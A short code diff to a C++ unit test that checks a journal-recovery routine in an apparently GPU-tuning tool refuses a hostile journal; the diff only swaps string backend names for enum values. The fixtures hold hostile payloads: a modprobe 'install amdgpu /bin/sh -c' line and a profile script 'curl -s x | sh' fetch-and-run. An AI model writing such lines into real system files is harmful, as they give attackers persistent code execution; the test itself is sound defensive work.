@@ -68,9 +68,9 @@ TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
   txn.id = "1";
   txn.time = "2026-11-23T00:00:00Z";
   txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
-  plan::Op conf{plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
+  plan::Op conf{plan::OpKind::kRemoveFile, plan::BackendId::kModprobe, kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
                 std::nullopt, {}, "r"};
-  plan::Op profile{plan::OpKind::kRemoveFile, "env", "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
+  plan::Op profile{plan::OpKind::kRemoveFile, plan::BackendId::kEnv, "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
   txn.ops = {conf, profile};
   w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1), journal::BeginRecord(txn).dump() + "\n");
 
